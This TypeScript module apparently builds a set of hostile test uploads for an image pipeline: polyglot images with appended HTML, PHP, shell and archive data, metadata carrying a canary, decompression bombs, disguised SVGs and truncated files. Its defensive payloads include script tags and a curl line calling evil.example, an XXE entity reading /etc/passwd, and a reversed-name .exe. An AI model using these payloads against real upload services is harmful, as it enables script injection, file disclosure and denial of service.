import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Must not be found in anything that is stored or served. */
export const CANARY = 'podmates-canary';
const SCRIPT = `<script>fetch("//evil.example/${CANARY}")</script>`;

export interface HostileFile {
  readonly name: string;
  readonly bytes: Buffer;
}

type Kind = 'jpeg' | 'png' | 'webp';
const KINDS: readonly Kind[] = ['jpeg', 'png', 'webp'];

const plain = (kind: Kind, side = 24): Promise<Buffer> =>
  sharp({ create: { width: side, height: side, channels: 3, background: '#3a7' } })
    .toFormat(kind)
    .toBuffer();

/** What other programs take a file for that begins or ends like theirs. */
const APPENDED: Readonly<Record<string, Buffer>> = {
  'HTML page': Buffer.from(`<!doctype html><html>${SCRIPT}</html>`),
  'PHP page': Buffer.from(`<?php system("${CANARY}"); ?>`),
  'ZIP archive': Buffer.concat([
    Buffer.from('PK\x03\x04'),
    Buffer.from(CANARY),
    Buffer.from('PK\x05\x06'),
    Buffer.alloc(18),
  ]),
  'PDF document': Buffer.from(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(${CANARY})>>>>endobj\n%%EOF`),
  'Java archive': Buffer.concat([Buffer.from('PK\x03\x04META-INF/MANIFEST.MF'), Buffer.from(CANARY)]),
  'shell script': Buffer.from(`\n#!/bin/sh\ncurl evil.example/${CANARY}\n`),
  'second picture': Buffer.from(`\xff\xd8\xff\xe1${CANARY}\xff\xd9`, 'latin1'),
  program: Buffer.concat([Buffer.from('MZ\x90\x00'), Buffer.from(CANARY)]),
};

/** A whole picture, and something of another kind behind it. */
const polyglots = async (): Promise<HostileFile[]> => {
  const made: HostileFile[] = [];
  for (const kind of KINDS)
    for (const [what, bytes] of Object.entries(APPENDED))
      made.push({ name: `${kind} with a ${what} behind it`, bytes: Buffer.concat([await plain(kind), bytes]) });
  return made;
};

/** Where it was taken, by whom, and what else a camera or an editor writes beside the pixels. */
const telltales = async (): Promise<HostileFile[]> => {
  const made: HostileFile[] = [];
  for (const kind of KINDS) {
    const about = {
      IFD0: { Copyright: CANARY, Make: CANARY, ImageDescription: SCRIPT },
      IFD3: { GPSLatitudeRef: 'N' },
    };
    const source = () => sharp({ create: { width: 24, height: 24, channels: 3, background: '#3a7' } }).toFormat(kind);
    made.push({ name: `${kind} with EXIF and a place`, bytes: await source().withExif(about).toBuffer() });
    const xmp = `<?xpacket?><x:xmpmeta xmlns:x="adobe:ns:meta/"><a>${CANARY}</a></x:xmpmeta>`;
    made.push({ name: `${kind} with XMP`, bytes: await source().withXmp(xmp).toBuffer() });
    made.push({ name: `${kind} turned by EXIF`, bytes: await source().withMetadata({ orientation: 6 }).toBuffer() });
    made.push({ name: `${kind} with a colour profile`, bytes: await source().withIccProfile('p3').toBuffer() });
  }
  made.push({ name: 'jpeg with a comment', bytes: withSegment(await plain('jpeg'), 0xfe, SCRIPT) });
  made.push({
    name: 'jpeg with a foreign segment',
    bytes: withSegment(await plain('jpeg'), 0xed, `Photoshop 3.0\0${CANARY}`),
  });
  for (const kind of ['tEXt', 'iTXt', 'zTXt', 'eXIf', 'prVt'])
    made.push({
      name: `png with ${kind}`,
      bytes: withChunk(await plain('png'), kind, Buffer.from(`Comment\0${CANARY}`)),
    });
  return made;
};

/** Small files that would be gigabytes of pixels, or say so. */
const bombs = async (): Promise<HostileFile[]> => {
  const header = (width: number, height: number) =>
    pngOf(width, height, deflateSync(Buffer.alloc(2_000_000), { level: 9 }));
  const animated = await sharp({
    create: { width: 8, height: 8 * 300, pageHeight: 8, channels: 3, background: '#000' },
  })
    .webp({ loop: 0 })
    .toBuffer();
  return [
    { name: 'png of 30,000 by 30,000', bytes: header(30_000, 30_000) },
    { name: 'png of 65,535 by 65,535', bytes: header(65_535, 65_535) },
    { name: 'png of 2 thousand million by one', bytes: header(2_147_483_647, 1) },
    { name: 'png of one by 20,000', bytes: header(1, 20_000) },
    { name: 'png without a size', bytes: header(0, 0) },
    { name: 'webp of 300 frames', bytes: animated },
    { name: 'jpeg that says it is 65,500 by 65,500', bytes: resizedJpeg(await plain('jpeg'), 65_500) },
    {
      name: 'png inflating to more than it says',
      bytes: pngOf(8, 8, deflateSync(Buffer.alloc(50_000_000), { level: 9 })),
    },
  ];
};

/** What is no picture at all, under a picture's name. */
const disguised = (): HostileFile[] =>
  Object.entries({
    'SVG with a script': `<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`,
    'SVG with a handler': `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${CANARY}')"/>`,
    'SVG that reads a file': `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`,
    'SVG of a million laughs': `<!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><svg>&b;</svg>`,
    'SVG that fetches': `<svg><image href="http://evil.example/${CANARY}"/></svg>`,
    'HTML page': `<!doctype html><html>${SCRIPT}</html>`,
    'XML with a style sheet': `<?xml-stylesheet href="http://evil.example/x.xsl"?><a/>`,
    'MHTML page': `MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n${SCRIPT}`,
    'text with a reversed name': `photo\u202egpj.exe ${SCRIPT}`,
    'text with unseen tags': `fine${[...CANARY].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}`,
    'text with terminal escapes': `\u001b]0;title\u0007\u001b[2J fine`,
    'GIF and script': `GIF89a/*${CANARY}*/=1;alert(1)`,
  }).map(([name, text]) => ({ name, bytes: Buffer.from(text) }));

const foreign = async (): Promise<HostileFile[]> => {
  const gif = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
    .gif()
    .toBuffer();
  const tiff = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
    .tiff()
    .toBuffer();
  const heads: Readonly<Record<string, string>> = {
    'Windows program': 'MZ\x90\x00\x03\x00',
    'Linux program': '\x7fELF\x02\x01\x01\x00',
    'ZIP archive': 'PK\x03\x04\x14\x00',
    'gzip archive': '\x1f\x8b\x08\x00',
    'RAR archive': 'Rar!\x1a\x07\x01\x00',
    'PDF document': '%PDF-1.7\n%\xe2\xe3\xcf\xd3',
    'HEIC photo': '\x00\x00\x00\x18ftypheic\x00\x00',
    'MP4 video': '\x00\x00\x00\x18ftypmp42\x00\x00',
    bitmap: 'BM\x36\x00\x00\x00',
    icon: '\x00\x00\x01\x00\x01\x00',
    'Photoshop document': '8BPS\x00\x01',
    PostScript: '%!PS-Adobe-3.0 EPSF\xff',
    'sound in RIFF': 'RIFF\x24\x00\x00\x00WAVEfmt ',
    'SQLite file': 'SQLite format 3\x00',
    'Flash film': 'FWS\x05\x00',
    WebAssembly: '\x00asm\x01\x00\x00\x00',
  };
  const named = Object.entries(heads).map(([name, head]) => ({
    name,
    bytes: Buffer.concat([Buffer.from(head, 'latin1'), Buffer.from(CANARY)]),
  }));
  return [{ name: 'GIF', bytes: gif }, { name: 'TIFF', bytes: tiff }, ...named];
};

/** Files that break off, lie about their length, or are nothing. */
const broken = async (): Promise<HostileFile[]> => {
  const made: HostileFile[] = [
    { name: 'nothing', bytes: Buffer.alloc(0) },
    { name: 'blank', bytes: Buffer.from(' \n\t ') },
    { name: 'half a character', bytes: Buffer.from([0xe2, 0x82]) },
    { name: 'text of a megabyte', bytes: Buffer.alloc(1_000_000, 'a') },
    { name: 'noise', bytes: Buffer.from(Array.from({ length: 4000 }, (_, i) => (i * 7919) % 256)) },
  ];
  for (const kind of KINDS) {
    const whole = await plain(kind, 400);
    made.push({ name: `${kind} signature alone`, bytes: whole.subarray(0, 12) });
    made.push({ name: `half a ${kind}`, bytes: whole.subarray(0, whole.length / 2) });
    made.push({
      name: `${kind} signature before a page`,
      bytes: Buffer.concat([whole.subarray(0, 12), Buffer.from(SCRIPT)]),
    });
  }
  return made;
};

export const hostileFiles = async (): Promise<HostileFile[]> => [
  ...(await polyglots()),
  ...(await telltales()),
  ...(await bombs()),
  ...disguised(),
  ...(await foreign()),
  ...(await broken()),
];

function withSegment(jpeg: Buffer, marker: number, text: string): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, Buffer.from(text, 'latin1'), jpeg.subarray(2)]);
}

/** The same bytes with another size in the frame's header. */
function resizedJpeg(jpeg: Buffer, side: number): Buffer {
  const frame = jpeg.findIndex((byte, i) => byte === 0xff && (jpeg[i + 1] === 0xc0 || jpeg[i + 1] === 0xc2));
  const copy = Buffer.from(jpeg);
  copy.writeUInt16BE(side, frame + 5);
  copy.writeUInt16BE(side, frame + 7);
  return copy;
}

const PNG_SIGNATURE_BYTES = 8;
const PNG_HEADER_BYTES = 25;

const withChunk = (png: Buffer, kind: string, data: Buffer): Buffer => {
  const start = PNG_SIGNATURE_BYTES + PNG_HEADER_BYTES;
  return Buffer.concat([png.subarray(0, start), chunk(kind, data), png.subarray(start)]);
};

function pngOf(width: number, height: number, pixels: Buffer): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  const signature = Buffer.from('89504e470d0a1a0a', 'hex');
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
}

function chunk(kind: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(kind, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}
